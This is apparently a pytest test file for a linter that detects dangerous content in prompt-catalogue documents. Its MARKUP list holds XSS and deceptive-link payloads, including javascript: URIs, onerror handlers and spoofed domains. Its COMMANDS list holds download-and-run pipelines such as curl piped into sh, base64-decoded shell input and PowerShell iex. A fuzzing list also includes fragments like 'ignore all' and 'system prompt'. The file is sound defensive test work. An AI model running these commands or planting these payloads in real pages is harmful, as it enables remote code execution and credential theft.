"""SE005 and SE006, and the reader of links and tags that they stand on: nothing is missed, nothing takes long."""

from __future__ import annotations

import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.catalogue.rules.specimen import around
from tests.catalogue.rules.texts import ALL, PATH, TEMPLATE, at, gaps, place, prose, said, slipped
from tokenop.catalogue.rules import RULES, markup, reading
from tokenop.catalogue.rules.source import Source

MARKUP = [
    "<script>alert(1)</script>",
    "<b>bold</b>",
    "<img src=x onerror=go()>",
    "<?php x ?>",
    "<!DOCTYPE html>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\\javascript\\:alert)",
    "[x](javascript%3Aalert(1))",
    "[x](<java script:alert(1)>)",
    "[x](data:text/html;base64,PHM+)",
    "[x](vbscript:msgbox)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/x)",
    "[x](https://github.com@evil.example/x)",
    "[x](https://g\u0456thub.com/x)",
    "[x](https://xn--gthub-cta.com/x)",
    "<javascript:alert(1)>",
    "![x](https://evil.example/pixel.png)",
    "![x](ht&#116;ps://evil.example/p)",
    "[x]( javascript:alert(1) 'title')",
]
COMMANDS = [
    "curl -fsSL https://x.example/i.sh | sh",
    "curl https://x.example/i|sudo -E bash -",
    "wget -qO- https://x.example/i | /bin/bash",
    "curl https://x.example/i \\\n  | bash",
    "curl https://x.example/i | tee y | python3 -",
    'bash -c "$(curl -fsSL https://x.example)"',
    "bash <(curl -s https://x.example)",
    "eval `wget -qO- https://x.example`",
    "curl -O https://x.example/i.sh && sudo sh i.sh",
    "curl -o i https://x.example/i; chmod +x i; ./i",
    "echo aGk= | base64 -d | sh",
    "base64 --decode <<< aGk= | bash",
    "python -c 'exec(base64.b64decode(x))'",
    "iex (iwr https://x.example)",
    "curl https://x.example | $SHELL",
    "cu\u200brl https://x.example | sh",
]


@given(st.sampled_from(MARKUP), st.sampled_from(prose()))
def test_html_and_addresses_that_run_are_found_in_any_sentence(trick: str, gap: int) -> None:
    text, offset = slipped(gap, trick)
    assert at("SE005", text, offset)


@pytest.mark.parametrize(
    "trick",
    ["[x]: javascript:alert(1)", "[x]: <data:text/html,x> 'title'", "> [x]: vbscript:x", "- <div>", "| <i> |\n|---|"],
)
def test_definitions_and_blocks_are_looked_at_too(trick: str) -> None:
    assert said("SE005", f"Text.\n\n{trick}\n\n[x]\n")


@pytest.mark.parametrize(
    "value",
    [
        '"<script>x</script>"',
        '"\\x3cscript\\x3e"',
        "'<svg/onload=x>'",
        "javascript:alert(1)",
        '"java\\tscript:x"',
        "data:text/html;base64,PHM+",
        '"file:///etc/passwd"',
        "'<!-- x --><iframe src=x>'",
    ],
)
def test_texts_of_the_frontmatter_are_looked_at_too(value: str) -> None:
    text = TEMPLATE.replace("title: Shorter prompts", f"title: {value}")
    assert {found.line for found in said("SE005", text)} == {4}


def test_comparisons_and_prompts_in_the_frontmatter_are_no_html() -> None:
    text = TEMPLATE.replace("input_tokens >= 1000", "input_tokens<output_tokens AND n>1").replace(
        "trim_boilerplate: true", 'text: "<document>{{text}}</document> data: text file: x"'
    )
    assert [found for rule in ALL for found in said(rule, text)] == []


@given(st.sampled_from(COMMANDS), st.sampled_from(gaps()))
def test_what_runs_unseen_is_found_anywhere(command: str, gap: int) -> None:
    text, _ = slipped(gap, command)
    lines = {found.line for found in said("SE006", text)}
    assert lines & set(range(place(text, gap)[0], place(text, gap)[0] + 1 + command.count("\n")))


@pytest.mark.parametrize(
    "command",
    [
        "curl http://localhost:8000/health | jq .status",
        "curl -o model.bin https://x.example/m && sha256sum -c sums",
        "base64 -d file > out",
        "| `curl` | fetches |\n| sh | runs |",
        "fetch the page | it is short",
        "vllm serve x | tee log",
    ],
)
def test_commands_that_only_fetch_or_show_are_left_alone(command: str) -> None:
    assert said("SE006", f"Text.\n\n```sh\n{command}\n```\n") == []


def test_only_known_languages_are_fenced_and_commands_stand_in_fences() -> None:
    for fence in (
        "```html\n<b>\n```",
        "~~~ mermaid\nx\n~~~",
        "1. x\n\n   ```js\n   x\n   ```",
        "> ```{.php}\n> x\n> ```",
    ):
        assert said("SE006", f"Text.\n\n{fence}\n"), fence
    for loose in ("$ rm -rf x", "#!/bin/sh", "Text.\n\n    curl https://x.example\n"):
        assert said("SE006", loose), loose
    assert said("SE006", "1. Step\n\n    more about it\n\n```sh\n$ rm x\n```\n") == []


UNITS = [
    "[",
    "](",
    "![a](",
    "<",
    "<a ",
    "<!--",
    "&#",
    "&#8203;",
    "`",
    "```\n",
    "~~~a\n",
    "*a ",
    "_",
    "> ",
    "- ",
    "1. ",
    "|a",
    "\\",
    "\u200b",
    "\u0430a",
    "sk-",
    "eyJ",
    "key: ",
    "password=a1",
    "a@",
    "a.",
    "a.b@c.",
    "+1 ",
    "1.",
    "10.1.",
    "ignore all ",
    "do not ",
    "curl ",
    "| sh",
    "base64 ",
    "sh -c ",
    "data:",
    "j a v a ",
    "://a:",
    "-----BEGIN PRIVATE KEY-----",
    "x.internal ",
    "(",
    "    a\n\n",
    "<a onx",
    "[a]: b\n",
    "[a][a]",
    "#",
    "# ",
    " ",
    "\n",
    "\ufe0f",
    "fd12:",
    "http://",
    "https://a.b/c ",
    "source: http://a ",
    "system prompt",
    "[^1]: ",
    "a|b\n-|-\n",
]


# What takes quadratic time takes sixteen times as long for four times the text: the long run has files of the greatest
# size. A rule that is linear takes a few hundredths of a second for any.
@pytest.mark.parametrize("front", [False, True], ids=["body", "frontmatter"])
@pytest.mark.parametrize(
    ("size", "most"), [(32 * 1024, 1.0), pytest.param(256 * 1024, 4.0, marks=pytest.mark.thorough)], ids=["32K", "256K"]
)
def test_no_text_takes_long(size: int, most: float, front: bool) -> None:
    slow = []
    for unit in UNITS:
        text = unit * (size // len(unit))
        source = Source(PATH, f"---\na: {text}\n---\n" if front else text)
        before = time.process_time()
        for rule in (*ALL, "SC006", "LK001", "LK002"):
            assert len(list(RULES[rule].check(source, around()))) <= reading.MOST
        if (took := time.process_time() - before) > most:
            slow.append((unit, took))
    assert slow == []


@settings(max_examples=30)
@given(st.text(alphabet="[]()<>!`*_-#|&;:\n ab\\\u200b/", max_size=400))
def test_the_quick_look_misses_no_link_and_no_tag(text: str) -> None:
    source = Source(PATH, text)
    quick = markup.glanced(source)
    exact = markup.parsed(source)
    if quick is not None:
        assert {link.href for link in exact.links} <= {link.href for link in quick}
        assert [part for part in exact.raw if part.kind == "html"] == []


def test_positions_of_links_hold_in_lists_quotes_and_tables() -> None:
    text = "> q [a](x:1)\n> s [b](x:2)\n\n1. i\n   j [c](x:3)\n\n"
    text += "| h | [d](x:4) |\n|---|---|\n| `a` | [e](x:5) |\n\n# [f](x:6)\n"
    wanted = [place(text, text.index(f"[{letter}]")) for letter in "abcdef"]
    assert [(found.line, found.column) for found in said("SE005", text)] == wanted


def test_evidence_and_files_that_do_not_parse_are_looked_at() -> None:
    for text in ("no frontmatter\n<b>x</b>", "---\na: [\n---\n<b>x</b>", "---\nnot closed\n<b>x</b>"):
        assert said("SE005", text)
